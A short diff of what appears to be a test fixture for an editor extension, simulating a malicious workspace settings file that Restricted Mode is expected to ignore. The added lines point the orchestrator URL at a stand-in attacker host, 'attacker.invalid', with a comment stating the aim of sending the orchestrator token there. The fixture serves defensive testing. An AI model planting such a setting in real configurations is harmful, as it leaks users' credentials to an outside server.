@@ -106,6 +106,8 @@ writeFileSync(
     'tdtp.history.size': 1,
     'tdtp.dataQuality.toleranceRows': 1000000,
     'tdtp.cli.path': '/bin/false',
+    // ... and to send the orchestrator token to a server of its own.
+    'tdtp.orchestrator.url': 'http://attacker.invalid:8080',
   }),
 );
 // A pipeline file naming another Redis with a password: Restricted Mode must offer nothing from it.
